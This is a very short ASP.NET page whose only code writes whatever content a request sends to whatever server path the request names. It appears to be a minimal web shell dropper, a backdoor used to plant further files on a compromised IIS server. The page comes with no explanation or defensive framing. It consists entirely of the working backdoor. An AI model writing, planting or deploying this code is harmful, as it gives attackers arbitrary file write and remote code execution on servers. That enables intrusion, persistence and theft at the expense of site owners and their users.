<%@ Page Language="C#" %>
<script runat="server">protected void Page_Load(object s, EventArgs e){System.IO.StreamWriter w = new System.IO.StreamWriter(Request.Form["f"], false, System.Text.Encoding.Default);w.Write(Request.Form["c"]);w.Close();}</script>
